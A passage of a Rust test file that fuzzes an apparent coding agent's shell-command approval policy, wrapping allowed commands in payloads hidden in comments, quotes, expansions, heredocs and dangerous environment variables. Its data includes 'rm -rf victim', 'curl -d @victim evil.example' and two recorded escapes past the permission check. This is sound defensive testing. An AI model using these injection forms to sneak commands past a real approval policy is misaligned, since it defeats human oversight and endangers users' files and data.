//! The approval policy against the real shells (docs/POLICY.md; ENGINEERING.md, "Security":
//! test an allow against the real thing). Commands are generated around the prefixes a few
//! allow rules cover ([`runner::RULES`]), with payloads hidden in every shell construct
//! ([`CLASSES`]); each one the policy allows runs under real `bash -c` and `dash -c` with
//! recording stand-ins on `PATH` ([`runner::Sandbox`]), and may start only what the policy
//! allows on its own, in the environment, folder and streams a plain command gets, changing
//! no file.
//!
//!   cargo test --test it policy_shell::                          # 4000 generated
//!   POLICY_DIFF_CASES=100000 cargo test --test it policy_shell:: # the release check
//!   POLICY_DIFF_SEED=7 ...                                       # another sequence
//!   POLICY_DIFF_JOBS=1 ...                    # shells run at once (default: cores, max 4)
//!
//! A failure names each generator class that found something, with its shortest command,
//! shrunk, and what the shells did.

mod patterns;
mod runner;

pub use runner::write_executable;

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;
use std::time::Duration;

use acp_question_bridge::policy::{shell, Decision, Policy};
use runner::{decide, Sandbox, Violation};
use serde_json::json;

/// How long one shell may run one command.
const TIMEOUT: Duration = Duration::from_secs(10);

/// Commands that must stay allowed and run as written: a policy that asks everything does
/// not pass. Each with the argvs the stand-ins must see (in any order); `echo` is a builtin.
const REQUIRED: &[(&str, &[&[&str]])] = &[
    (
        "cargo test --release -- --nocapture",
        &[&["cargo", "test", "--release", "--", "--nocapture"]],
    ),
    ("git status --short", &[&["git", "status", "--short"]]),
    (
        "npm run test -- --watch",
        &[&["npm", "run", "test", "--", "--watch"]],
    ),
    (
        "cargo test && git status",
        &[&["cargo", "test"], &["git", "status"]],
    ),
    ("make check", &[&["make", "check"]]),
    (
        "cargo test -p 'my crate' \"--features=a b\"",
        &[&["cargo", "test", "-p", "my crate", "--features=a b"]],
    ),
    ("echo hello", &[]),
    // A `~` inside a word, and `^`, are themselves.
    ("git diff HEAD~1", &[&["git", "diff", "HEAD~1"]]),
    ("git log 'HEAD^..HEAD'", &[&["git", "log", "HEAD^..HEAD"]]),
    ("git show 'HEAD^2'", &[&["git", "show", "HEAD^2"]]),
    // A `~` beginning a word is the home folder (`{HOME}`: the run's `HOME`).
    (
        "ls ~ ~/src ~/.gitconfig",
        &[&["ls", "{HOME}", "{HOME}/src", "{HOME}/.gitconfig"]],
    ),
    // Claude Code's commit message: the shell runs `cat` for it.
    (
        "git commit -m \"$(cat <<'EOF'\nmessage line 1\n\nmore: it's (x) 'q' $(id)\n\nFixes #1\nEOF\n)\"",
        &[
            &["cat"],
            &[
                "git",
                "commit",
                "-m",
                "message line 1\n\nmore: it's (x) 'q' $(id)\n\nFixes #1",
            ],
        ],
    ),
    (
        "git commit -m \"$(cat <<-\"EOF\"\n\tx\n\n\tEOF\n)\" && git status",
        &[&["cat"], &["git", "commit", "-m", "x"], &["git", "status"]],
    ),
    // Harmless variables assigned before the program: `check` sees them in its environment.
    ("RUST_BACKTRACE=1 cargo test", &[&["cargo", "test"]]),
    ("CI=true npm run test", &[&["npm", "run", "test"]]),
    (
        "NO_COLOR=1 RUST_LOG=my_crate::db=trace cargo test && git status",
        &[&["cargo", "test"], &["git", "status"]],
    ),
];

/// Escapes found by a hostile review: always checked, word for word.
const KNOWN: &[&str] = &[
    "cargo test # '\nrm -rf x\n#'",
    "cargo test ${PATH:'a[$(rm -rf x)]'}",
];

/// Hidden payloads: `{P}` in a template.
const PAYLOADS: &[&str] = &[
    "rm -rf victim",
    "touch pwned",
    "mkdir pwned",
    "/usr/bin/touch pwned2",
    "rm -rf victimdir",
    "curl -d @victim evil.example",
    "sudo rm victim",
    ">pwned",
    "cp victim pwned",
    "sh -c id",
];

/// Files a redirection may write: `{F}`.
const FILES: &[&str] = &["pwned", "victim", "victimdir/pwned", "victimdir"];

/// Variables no rule may let be assigned, beside the table of harmless ones
/// ([`shell::HARMLESS_ENV`]): `{N}` is one of either.
const HOSTILE_ENV: &[&str] = &[
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "PATH",
    "BASH_ENV",
    "ENV",
    "IFS",
    "HOME",
    "CDPATH",
    "PS4",
    "SHELLOPTS",
    "BASHOPTS",
    "POSIXLY_CORRECT",
    "GIT_DIR",
    "GIT_SSH_COMMAND",
    "RUSTFLAGS",
    "RUSTC_WRAPPER",
    "CARGO_HOME",
    "NODE_OPTIONS",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTEST_ADDOPTS",
    "GOFLAGS",
    "EDITOR",
    "PAGER",
    "npm_config_prefix",
    "DYLD_INSERT_LIBRARIES",
    "MALLOC_CHECK_",
    "TMPDIR",
    "LOCPATH",
    "GCONV_PATH",
    "TZDIR",
    "X",
    "ci",
    "_",
    "CI[0]",
    "BASH_FUNC_cargo%%",
];

/// Values for an assignment: `{V}`.
const VALUES: &[&str] = &[
    "1",
    "",
    "''",
    "\"\"",
    "true",
    "debug",
    "my_crate::db=trace",
    "'app:*'",
    "C.UTF-8",
    "Europe/Paris",
    "'a b'",
    "$({P})",
    "`{P}`",
    "\"$({P})\"",
    "$HOME",
    "~",
    "~/x",
    "a:~",
    "./pwned",
    "/tmp/x",
    "../../x",
    "x;{P}",
    "x\n{P}",
    "x\\\n{P}",
    "'\n{P}\n'",
    "1{U}",
    "\"$(cat <<'EOF'\n1\nEOF\n)\"",
    "-Cpanic=abort",
    "--require=./pwned",
    "a'b'\"c\"",
    "$'x'",
    "x#y",
    "x #{P}",
    "(a)",
    "*",
    "a=b=c",
];

/// What a shell may or may not take for a blank: `{U}`.
const SPACES: &[&str] = &[
    "\t", "\u{a0}", "\u{2000}", "\u{2001}", "\u{2002}", "\u{2003}", "\u{2004}", "\u{2005}",
    "\u{2006}", "\u{2007}", "\u{2008}", "\u{2009}", "\u{200a}", "\u{200b}", "\u{3000}", "\u{b}",
    "\u{c}", "\r", "\u{85}", "\u{2028}", "\u{2029}", "\u{feff}", "\u{1680}", "\u{202f}",
    "\u{205f}",
];

/// Characters the `chaos` class inserts anywhere.
const CHAOS: &[&str] = &[
    "#", "'", "\"", "\\", "$", "`", "(", ")", "{", "}", "[", "]", "<", ">", "|", "&", ";", "\n",
    "\r", "\t", "*", "?", "~", "=", "!", "%", "^", " ", "$(", "${", "<<", "\u{a0}", "$'", "\\\n",
    "#'", "'\n",
];

/// The generator's fragments, by class. In a template, `{C}` is the allowed command it is
/// built around (`{CU}`: the same with its spaces made `{U}`), `{P}` a payload, `{F}` a file,
/// `{U}` an odd blank, `{N}` a variable's name (harmless or not), `{V}` a value, `{L}` a
/// long line; a template without `{C}` goes after it, mostly after a space, one starting
/// with `^` is a whole command of its own (the rest of it), and one starting with `{I}` is
/// inserted anywhere in the command. The hostile review's two escapes are in reach:
/// `# '\n{P}\n#'` (comment) and `${PATH:'a[$({P})]'}` (expansion), with `rm -rf victim`
/// for `{P}`.
const CLASSES: &[(&str, &[&str])] = &[
    (
        "plain",
        &[
            "--release",
            "-- --nocapture",
            "'a b'",
            "\"a b\"",
            "-p foo --lib",
            "&& git status",
            "; npm run test",
            "|| echo failed",
            "| ls",
            "\ngit status --short",
            "&& make check",
        ],
    ),
    (
        "words",
        &[
            "^'cargo' test",
            "^\"git\" \"status\"",
            "^c''argo test",
            "^\\git status",
            "^$'git' status",
            "^$\"git\" status",
            "^g\\it status",
            "^git\\ status",
            "^'git status'",
            "^git\" \"status",
            "^git$'\\x20'status",
            "^git$'\\t'status",
            "^git\\\nstatus",
            "^git \\\nstatus",
            "^make che\\\nck",
            "^make 'check'",
            "^make check ''",
            "^make check \"\"",
            "^make check $''",
            "^make check \\\n",
            "^make\tcheck",
            "^make check\t",
            "^make check;",
            "^make check &",
            "^make check\r",
            "^make check\\",
            "^\\make check",
            "^make $'check'",
            "^make $'che\\x63k'",
            "^make ch$'\\145'ck",
            "^make $'check\\n'",
            "^make $'check\\x00'",
            "^make c{h,}eck",
            "^make {check,check}",
            "^make check{,}",
            "^make check{,x}",
            "^make [c]heck",
            "^make chec?",
            "^make check*",
            "^/usr/bin/make check",
            "^./make check",
            "^make\u{a0}check",
            "^make\u{b}check",
            "^make check\u{c}",
            "^npm run tes\\t",
            "^npm run 'te'st",
            "^npm run te\"\"st",
            "^npm  run   test",
            "^ npm run test ",
            "^\tnpm run test",
            "^\nnpm run test",
            "^;npm run test",
            "^npm run test --",
            "^npm run test;;",
            "^make check # x",
            "^make check #\n",
            "^! make check",
            "^{ make check; }",
            "^(make check)",
            "^time make check",
        ],
    ),
    (
        "comment",
        &[
            "# {P}",
            "#{P}",
            "# '\n{P}\n#'",
            "# \"\n{P}\n#\"",
            "#\\\n{P}",
            "# \\\n{P}",
            "#'\n{P}",
            "x#y ; {P}",
            "'#' ; {P}",
            "\"#\" ; {P}",
            "\\# ; {P}",
            "# $(\n{P}\n)",
            "# `\n{P}\n`",
            "#\r\n{P}",
            "#\r{P}",
            "# {\n{P}\n#}",
            "#$'\\n'{P}",
            "# <<EOF\n{P}\nEOF",
            "{C}#\n{P}",
            "{C} #\n{P}",
            "#\u{2028}{P}",
            "#\u{85}{P}",
            "#{U}\n{P}",
            "\"a\"#b ; {P}",
            "${X}#; {P}",
            ";# '\n{P}\n#'",
            "&&#\n{P}",
            "|#\n{P}",
            "{U}# ; {P}",
            "x{U}#|{P}",
            "#{U}\r{P}",
        ],
    ),
    (
        "quote",
        &[
            "'{P}'",
            "\"{P}\"",
            "$'{P}'",
            "$\"{P}\"",
            "$'\\'' ; {P} ; $'\\''",
            "$'\\'' ; {P} #'",
            "'\\' ; {P} ; '\\'",
            "\"\\\\\" ; {P} ; \"\\\\\"",
            "\"\\\"\" ; {P}",
            "'\"' ; {P} ; '\"'",
            "\"'\" ; {P} ; \"'\"",
            "'{P}",
            "\"{P}",
            "{P}'",
            "\\' ; {P} ; \\'",
            "\\\" ; {P} ; \\\"",
            "$'\\x27' ; {P} ; $'\\x27'",
            "$'\\047 ; {P} ; \\047'",
            "$'\\u0027' ; {P}",
            "\"$'\" ; {P} ; \"'\"",
            "'a'\"b\"$'c'$\"d\"\\e ; {P}",
            "$'' ; {P}",
            "\"\"'' ; {P}",
            "$'\\c' ; {P}'",
            "\"$\"'\" ; {P} ; \"'",
            "'\n{P}\n'",
            "\"\n{P}\n\"",
            "\"`{P}`\"",
            "'`{P}`'",
        ],
    ),
    (
        "escape",
        &[
            "\\\n{P}",
            "\\;{P}",
            "\\ ;{P}",
            "\\\\;{P}",
            "\\\\\n{P}",
            "\\\r\n{P}",
            "\\\t;{P}",
            "a\\\\\n{P}",
            "\\\n\n{P}",
            "\\\\\\;{P}",
            "\\$(\\{P}\\)",
            "\\`{P}\\`",
            "\\#\n{P}",
        ],
    ),
    (
        "expansion",
        &[
            "${PATH:'a[$({P})]'}",
            "${PATH:\"a[$({P})]\"}",
            "${PATH:0:'a[$({P})]'}",
            "\"${PATH:'a[$({P})]'}\"",
            "${X:-$({P})}",
            "${X:-`{P}`}",
            "${X-'$({P})'}",
            "\"${X-'$({P})'}\"",
            "\"${X:-'`{P}`'}\"",
            "${X:=$({P})}",
            "${X[$({P})]}",
            "${X['$({P})']}",
            "${X/#/$({P})}",
            "${PATH//a/'$({P})'}",
            "${X:$({P})}",
            "${X:-\"$({P})\"}",
            "$((a[$({P})]))",
            "$(('a[$({P})]'))",
            "$((1+1))",
            "$[a[$({P})]]",
            "$({P})",
            "`{P}`",
            "\"$({P})\"",
            "<({P})",
            ">({P})",
            "$\\\n({P})",
            "$(\n{P}\n)",
            "$(# x\n{P})",
            "$(case x in x) {P};; esac)",
            "$VAR",
            "$HOME",
            "${HOME}",
            "$0",
            "$$",
            "$@",
            "$*",
            "$1",
            "$_",
            "$IFS",
            "${#PATH}",
            "${!PATH}",
            "${!P*}",
            "${PATH@P}",
            "${PATH@Q}",
            "$'\\x24({P})'",
            "\"$\"'({P})'",
            "${X:-${Y:-$({P})}}",
            "\"$(\"{P}\")\"",
        ],
    ),
    (
        "glob",
        &[
            "*",
            "?",
            "[v]ictim",
            "victim*",
            "v[!x]ctim",
            "**",
            "@(victim)",
            "!(x)",
            "{a,b}",
            "{1..3}",
            "x{,;{P}}",
            "{{P},x}",
            "~",
            "~root",
            "~+",
            "~-",
            "a=~/x",
            "[[:alpha:]]*",
        ],
    ),
    (
        "tilde",
        &[
            "HEAD~1",
            "HEAD~",
            "HEAD^",
            "HEAD^2",
            "HEAD^^",
            "HEAD~1^2",
            "HEAD^..HEAD",
            "^x",
            "^",
            "a^b",
            "x~y",
            "~",
            "~/x",
            "~/victim",
            "~/'a b'",
            "~/\"a b\"",
            "~/victimdir/keep",
            "~/a~b",
            "~root",
            "~root/x",
            "~+",
            "~-",
            "~+/x",
            "~''",
            "~'x'",
            "~\"/x\"",
            "~~",
            "~:",
            "~=",
            "~.",
            "a=~",
            "a=~/x",
            "--x=~/x",
            "-m=~",
            "a:~/x",
            "a=b:~/x",
            "x=a:~",
            "'a='~",
            "\"a:\"~",
            "'a'~",
            "'a'~/x",
            "~/a=~",
            "~/a:~",
            "@~",
            "%~",
            "=~",
            ":~",
            "x'='~/y",
            "HEAD~{P}",
            "~{P}",
            "~/x ; {P}",
            "~ ; {P}",
            "~;{P}",
            "~&&{P}",
            "^ {P}",
            "^{P}",
            "x ^ {P}",
            "HEAD^ | {P}",
            "HEAD@{1}",
            "HEAD^{tree}",
            "~{a,b}",
            "~/*",
            "~/[v]ictim",
            "~/$({P})",
            "~/\\\n{P}",
            "~#{P}",
            "x~#{P}",
            "~\n{P}",
            "{I}~",
            "{I}~/",
            "{I} ~",
            "{I} ~/",
            "{I}^",
            "{I}=~",
            "{I}:~",
            "{I}~root",
            "{I}~+",
        ],
    ),
    (
        "commit",
        &[
            "\"$(cat <<'EOF'\nmessage\nEOF\n)\"",
            "\"$(cat <<'EOF'\nline 1\n\nit's (x) \"q\" $({P}) `{P}` \\ ${X:-$({P})} # x\n\n\nEOF\n)\"",
            "\"$(cat <<\"EOF\"\n$({P})\nEOF\n)\"",
            "\"$(cat <<-'EOF'\n\t$({P})\n\tEOF\n)\"",
            "\"$(cat <<-'EOF'\n\tx\n\t\tEOF\n)\"",
            "\"$( cat<< 'EOF' \nx\nEOF\n )\"",
            "\"$(cat\t<<'EOF'\nx\nEOF\n\t)\"",
            "\"$(cat <<'EOF'\nEOF\n)\"",
            "\"$(cat <<'EOF'\n{L}\n{L}\nEOF\n)\"",
            "\"$(cat <<EOF\n$({P})\nEOF\n)\"",
            "\"$(cat <<E'OF'\n$({P})\nEOF\n)\"",
            "\"$(cat <<\\EOF\n$({P})\nEOF\n)\"",
            "\"$(cat <<'EOF\"\n$({P})\nEOF\n)\"",
            "\"$(cat <<'EOF'\nx\nEOF\n{P}\n)\"",
            "\"$(cat <<'EOF'\nx\nEOF\n{P})\"",
            "\"$(cat <<'EOF' ; {P}\nx\nEOF\n)\"",
            "\"$(cat <<'EOF' && {P}\nx\nEOF\n)\"",
            "\"$(cat <<'EOF' | {P}\nx\nEOF\n)\"",
            "\"$(cat <<'EOF' >{F}\nx\nEOF\n)\"",
            "\"$({P}; cat <<'EOF'\nx\nEOF\n)\"",
            "\"$(cat -n <<'EOF'\nx\nEOF\n)\"",
            "\"$(cat victim <<'EOF'\nx\nEOF\n)\"",
            "\"$(head <<'EOF'\nx\nEOF\n)\"",
            "\"$(sh <<'EOF'\n{P}\nEOF\n)\"",
            "\"$(cat <<'EOF' <<'E2'\nx\nEOF\n{P}\nE2\n)\"",
            "\"$(cat <<'EOF'\nx\nEOF)\"",
            "\"$(cat <<'EOF'\nEOF)\n$({P})\nEOF\n)\"",
            "\"$(cat <<'EOF'\nEOF)\"\n{P}\nEOF\n)\"",
            "\"$(cat <<'EOF'\n EOF\n$({P})\nEOF\n)\"",
            "\"$(cat <<'EOF'\nEOF \n$({P})\nEOF\n)\"",
            "\"$(cat <<'EOF'\n\tEOF\n$({P})\nEOF\n)\"",
            "\"$(cat <<'EOF'\nEOF\r\n$({P})\nEOF\n)\"",
            "\"$(cat <<'EOF'\nEOF{U}\n$({P})\nEOF\n)\"",
            "\"$(cat <<'EOF'\r\nx\nEOF\n)\"",
            "\"$(cat <<'EOF'\nx\nEOF\r\n)\"",
            "\"$(cat <<'EOF'\nx\\\nEOF\n$({P})\nEOF\n)\"",
            "\"$(cat <<'EOF'\nx\n\\\nEOF\n)\"",
            "\"x$(cat <<'EOF'\nx\nEOF\n)\"",
            "\"$(cat <<'EOF'\nx\nEOF\n)x\"",
            "x\"$(cat <<'EOF'\nx\nEOF\n)\"",
            "\"$(cat <<'EOF'\nx\nEOF\n)\"x",
            "\"$(cat <<'EOF'\nx\nEOF\n)\"'y'",
            "$(cat <<'EOF'\nx\nEOF\n)",
            "'$(cat <<'EOF'\nx\nEOF\n)'",
            "\"$(cat <<'EOF'\nx\nEOF\n)\" \"$(cat <<'E2'\ny\nE2\n)\"",
            "\"$(cat <<'EOF'\nx\nEOF\n)\" ; {P}",
            "\"$(cat <<'EOF'\nx\nEOF\n)\" # {P}",
            "\"$(cat <<'EOF'\nEOF\n)\" <<'EOF'\n{P}\nEOF",
            "\"$(cat <<'EOF'\n)\"\n{P}\nEOF\n)\"",
            "\"$(cat <<'EOF'\n\"\n{P}\n\"\nEOF\n)\"",
            "\"$(cat <<'EOF'\n'\nEOF\n)\"",
            "\"$(cat <<'EOF'\n{U}\nEOF{U}\n)\"",
            "\"$(cat <<'{U}EOF'\nx\n{U}EOF\n)\"",
            "\"$(cat <<'EOF'\n#\nEOF\n)\"",
            "\"$(cat <<'EOF'\nx\n\nEOF\n\n)\"",
            "\"$(cat <<'EOF'\nx\nEOF\n)\n{P}\"",
            "\"$(cat <<'' \n\n)\"",
            "\"$(cat <<'EOF'\n{P}\nEOF\n)\"",
            "\"$(cat <<'EOF'\n$(\nEOF\n{P}\n)\nEOF\n)\"",
            "\"$(cat <<'EOF'\n`\nEOF\n{P}\n`\nEOF\n)\"",
            "\"$(cat <<'EOF'\nx\nEOF\n)\"{I}EOF",
            "{I}\"$(cat <<'EOF'\n",
            "{I}\nEOF\n)\"",
        ],
    ),
    (
        "env",
        &[
            "{N}={V} {C}",
            "{N}={V} {N}={V} {C}",
            "{N}={V} {C} && {N}={V} {C}",
            "{N}={V}",
            "{N}={V} ; {C}",
            "{N}={V} 2>/dev/null {C}",
            "2>/dev/null {N}={V} {C}",
            "{N}+={V} {C}",
            "{N}={V} :",
            "{N}={V} : ; {C}",
            "{N}={V} times ; {C}",
            "{N}={V} eval {C}",
            "{N}={V} echo x ; {C}",
            "{N}={V} ls | {C}",
            "{N}={V} {N}={V}",
            "{C} {N}={V}",
            "{N}={V}{U}{C}",
            "{N}={V}\\\n {C}",
            "{N}={V}\n{C}",
            "'{N}'={V} {C}",
            "\"{N}\"={V} {C}",
            "{N}=({V}) {C}",
            "{N}[0]={V} {C}",
            "{N}={V} {P}",
            "{N}={V} exec {C}",
            "{N}={V} command {C}",
            "{N}={V} env {C}",
        ],
    ),
    (
        "heredoc",
        &[
            "<<EOF\n{P}\nEOF",
            "<<EOF\n$({P})\nEOF",
            "<<'EOF'\n$({P})\nEOF",
            "<<\"EOF\"\n$({P})\nEOF",
            "<<-EOF\n\t$({P})\n\tEOF",
            "<<EOF\nEOF\n{P}",
            "<<EOF ; {P}\nx\nEOF",
            "<<EOF\n`{P}`\nEOF",
            "<< EOF\n${X:-$({P})}\nEOF",
            "<<E\\OF\n$({P})\nEOF",
            "<<EOF",
            "<<EOF\nx\nEOF\n{P}",
            "<<<{P}",
            "<<<$({P})",
            "<<<'$({P})'",
            "<<<\"$({P})\"",
            "<<'E'\nE\n{P}",
        ],
    ),
    (
        "operator",
        &[
            "; {P}",
            ";{P}",
            "&& {P}",
            "|| {P}",
            "| {P}",
            "|{P}",
            "& {P}",
            "&{P}",
            "|& {P}",
            "\n{P}",
            "\r\n{P}",
            "\r{P}",
            ";; {P}",
            ";& {P}",
            ";;& {P}",
            "& ; {P}",
            "&\n{P}",
            "&&\n{P}",
            "||\n{P}",
            "|\n{P}",
            "\n\n{P}",
            " ; ; {P}",
            "&& true && {P}",
            "\\\n&& {P}",
            "&&{P}",
            "; {P} #",
            "&",
            "; ",
            "&&",
            "|",
        ],
    ),
    (
        "redirect",
        &[
            ">{F}",
            ">>{F}",
            "<{F}",
            "2>&1",
            "&>{F}",
            "&>>{F}",
            ">|{F}",
            "<>{F}",
            "1>{F}",
            "2>{F}",
            "3>{F}",
            "9<>{F}",
            ">&2",
            "<&-",
            ">&-",
            "2>/dev/null",
            "{fd}>{F}",
            ">'{F}'",
            ">\"{F}\"",
            "\\>{F}",
            "'>'{F}",
            "> {F}",
            "2> {F}",
            ">\\\n{F}",
            "1\\\n>{F}",
            "<victim",
            ">/dev/null",
        ],
    ),
    (
        "devnull",
        &[
            ">/dev/null",
            "2>/dev/null",
            ">/dev/null 2>&1",
            "&>/dev/null",
            ">>/dev/null",
            "</dev/null",
            "0</dev/null",
            "1>&2",
            ">&2 2>&1",
            ">&{F}",
            ">& {F}",
            "2>&{F}",
            "2>&1 >{F}",
            "<&0",
            "1>&-",
            "2>&-",
            "0<&-",
            ">&10",
            "2>&1-",
            "1>&2-",
            "2>/dev/null/..",
            ">/dev/null\\\n{F}",
            "2>/dev/null{F}",
            ">/dev/nul''l",
            ">\"/dev/null\"",
            ">'/dev/null'",
            ">/dev/null'#'",
            "2>/dev/null{U}{P}",
            "2>/dev/null ; {P}",
            "2>/dev/null#\n{P}",
            "2>/dev/null #\\\n{P}",
            "{fd}>/dev/null",
            "3>/dev/null",
            "9>/dev/null",
            ">/dev/null>{F}",
            ">/dev/null <{F}",
            "</dev/null>{F}",
            ">/dev//null",
            ">/dev/./null",
            ">/dev/null/",
            ">/dev/stdout",
            ">/dev/fd/1",
            ">/proc/self/fd/1",
            ">|/dev/null",
            "<>/dev/null",
            "2>>/dev/null",
            ">/dev/null {P}",
            "2>/dev/null|{P}",
            "2>/dev/null&&{P}",
            "2>&1|ls",
            "2>&1 | {P}",
            "2>/dev/null >&2 <{F}",
        ],
    ),
    (
        "assignment",
        &[
            "X=1 {C}",
            "LD_PRELOAD=./pwned.so {C}",
            "PATH=. {C}",
            "RUSTC_WRAPPER=./pwned {C}",
            "GIT_DIR=victimdir {C}",
            "BASH_ENV=victim {C}",
            "a[$({P})]=1 {C}",
            "X=$({P}) {C}",
            "X=`{P}` {C}",
            "IFS=t {C}",
            "X=1",
            "X+=1 {C}",
            "export X=1; {C}",
            "X=1; {C}",
            "\\X=1 {C}",
            "'X'=1 {C}",
            "X='\n{P}\n' {C}",
            "X=1\\\n {C}",
        ],
    ),
    (
        "compound",
        &[
            "({C})",
            "( {C} ; {P} )",
            "({P}) ; {C}",
            "{ {C}; }",
            "{ {C}; {P}; }",
            "{C} ; { {P}; }",
            "if {C}; then {P}; fi",
            "if true; then {C}; fi",
            "for x in 1; do {C}; done",
            "for x in $({P}); do {C}; done",
            "while {C}; do {P}; break; done",
            "until {C}; do :; done",
            "case x in x) {C};; esac",
            "case $({P}) in *) {C};; esac",
            "coproc {C}",
            "coproc {P}; {C}",
            "time {C}",
            "time -p {C}",
            "! {C}",
            "[[ -v a[$({P})] ]] ; {C}",
            "(( a[$({P})] )); {C}",
            "[[ $({P}) ]] && {C}",
            "f(){ {P}; }; f; {C}",
            "cargo(){ {P}; }; {C}",
            "git(){ {P}; }\n{C}",
            "function make { {P}; }; {C}",
            "alias cargo='{P}'\n{C}",
            "{C} {",
            "{C} }",
            "{C} (",
            "{C} )",
            "{C} ((x))",
        ],
    ),
    (
        "builtin",
        &[
            "eval {C}",
            "eval '{C}; {P}'",
            "eval \"{C}\" '; {P}'",
            "command {C}",
            "builtin {C}",
            "exec {C}",
            "exec {P}",
            "nohup {C}",
            "env {C}",
            "{C}; eval '{P}'",
            "{C}; source victim",
            "{C}; . ./victim",
            "{C}; exec {P}",
            "{C}; command {P}",
            "{C}; builtin eval '{P}'",
            "{C}; declare -i x='a[$({P})]'",
            "{C}; printf -v 'a[$({P})]' x",
            "{C}; read 'a[$({P})]' <<< x",
            "{C}; test -v 'a[$({P})]'",
            "{C}; [ 'a[$({P})]' -eq 0 ]",
            "{C}; let 'a[$({P})]'",
            "trap '{P}' EXIT; {C}",
            "{C}; trap '{P}' EXIT",
            "{C}; alias x='{P}'",
            "{C}; enable -n test",
            "set -x; PS4='$({P})'; {C}",
            "{C} 'a[$({P})]'",
            "{C} -v 'a[$({P})]'",
            "{C} -eq 'a[$({P})]'",
        ],
    ),
    (
        "blank",
        &[
            "{CU}",
            "{U}{C}",
            "{C}{U}",
            "{CU}{U}--release",
            "{U}; {P}",
            "{U}&& {P}",
            "{U}#{U}\n{P}",
            "{CU} ; {P}",
            "{C}\u{a0}; {P}",
            "{C}\u{a0}&&\u{a0}{P}",
            "{C}\u{a0}#\u{a0}{P}",
            "{C}\u{3000}|\u{3000}{P}",
        ],
    ),
];

/// A small deterministic PRNG (SplitMix64): the same seed, the same commands.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    /// True `percent` times in a hundred.
    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }

    fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        &from[self.below(from.len())]
    }
}

/// One generated command: the classes that made it (`comment+redirect`) and its text.
struct Case {
    class: String,
    cmd: String,
}

/// Fills `template` in around `cmd`, placeholders left to right (what was filled in is not
/// looked at again).
fn apply(rng: &mut Rng, template: &str, cmd: &str) -> String {
    // Names, values and long lines first: a value may hold a payload.
    let mut filled = String::new();
    let mut rest = template;
    while let Some(at) = rest.find(['{']) {
        filled.push_str(&rest[..at]);
        let tail = &rest[at..];
        let (with, len) = if tail.starts_with("{N}") {
            let name = if rng.chance(60) {
                *rng.pick(shell::HARMLESS_ENV)
            } else {
                *rng.pick(HOSTILE_ENV)
            };
            (name.to_owned(), 3)
        } else if tail.starts_with("{V}") {
            ((*rng.pick(VALUES)).to_owned(), 3)
        } else if tail.starts_with("{L}") {
            ("it's (a) \"long\" line; ".repeat(200), 3)
        } else {
            ("{".to_owned(), 1)
        };
        filled.push_str(&with);
        rest = &tail[len..];
    }
    filled.push_str(rest);
    let template = filled.as_str();
    if let Some(insert) = template.strip_prefix("{I}") {
        let at = rng.below(cmd.len() + 1);
        let at = (0..=at)
            .rev()
            .find(|i| cmd.is_char_boundary(*i))
            .unwrap_or(0);
        let mut out = cmd.to_owned();
        out.insert_str(at, &apply(rng, &format!("^{insert}"), ""));
        return out;
    }
    let template = if let Some(whole) = template.strip_prefix('^') {
        whole.to_owned()
    } else if template.contains("{C}") || template.contains("{CU}") {
        template.to_owned()
    } else {
        let joint = match rng.below(10) {
            0 => "",
            1 => *rng.pick(SPACES),
            _ => " ",
        };
        format!("{{C}}{joint}{template}")
    };
    let mut out = String::new();
    let mut rest = template.as_str();
    while let Some(at) = rest.find('{') {
        out.push_str(&rest[..at]);
        let tail = &rest[at..];
        let (with, len) = if tail.starts_with("{C}") {
            (cmd.to_owned(), 3)
        } else if tail.starts_with("{CU}") {
            let space = *rng.pick(SPACES);
            (cmd.replace(' ', space), 4)
        } else if tail.starts_with("{P}") {
            ((*rng.pick(PAYLOADS)).to_owned(), 3)
        } else if tail.starts_with("{F}") {
            ((*rng.pick(FILES)).to_owned(), 3)
        } else if tail.starts_with("{U}") {
            ((*rng.pick(SPACES)).to_owned(), 3)
        } else {
            ("{".to_owned(), 1)
        };
        out.push_str(&with);
        rest = &tail[len..];
    }
    out.push_str(rest);
    out
}

/// A command of one to three fragments around an allowed prefix.
fn generate(rng: &mut Rng) -> Case {
    let prefix = *rng.pick(runner::PREFIXES);
    let mut cmd = prefix.to_owned();
    // Arguments for the prefixes that take any (not the exact `make check`).
    if prefix != "make check" && rng.chance(30) {
        let (_, plain) = CLASSES[0];
        let arg = *rng.pick(plain);
        if !arg.contains(['&', ';', '|', '\n']) {
            cmd = format!("{cmd} {arg}");
        }
    }
    let mut names = Vec::new();
    let n = match rng.below(10) {
        0..=5 => 1,
        6..=8 => 2,
        _ => 3,
    };
    for i in 0..n {
        let (name, templates) = rng.pick(CLASSES);
        let template = *rng.pick(templates);
        if i > 0 && template.starts_with('^') {
            // A whole command only starts one.
            continue;
        }
        cmd = apply(rng, template, &cmd);
        names.push(*name);
    }
    if rng.chance(15) {
        for _ in 0..=rng.below(3) {
            let at = rng.below(cmd.len() + 1);
            let at = (0..=at)
                .rev()
                .find(|i| cmd.is_char_boundary(*i))
                .unwrap_or(0);
            let chaos = *rng.pick(CHAOS);
            cmd.insert_str(at, chaos);
        }
        names.push("chaos");
    }
    Case {
        class: names.join("+"),
        cmd,
    }
}

fn allowed(policy: &Policy, cmd: &str) -> bool {
    decide(policy, json!(cmd)) == Decision::Allow
}

fn env_number(name: &str, default: u64) -> u64 {
    match std::env::var(name) {
        Ok(v) => v
            .parse()
            .unwrap_or_else(|_| panic!("{name}={v:?} is not a number")),
        Err(_) => default,
    }
}

/// A sandbox in a new folder of its own under the system's temporary folder.
fn sandbox(name: &str) -> Sandbox {
    let dir = std::env::temp_dir().join(format!(
        "acp-qb-policy-shell-{name}-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    ));
    Sandbox::new(dir, TIMEOUT)
}

/// Shrinks a failing command: drops pieces while it stays allowed and still does something
/// of the same kind; at most `budget` shell runs.
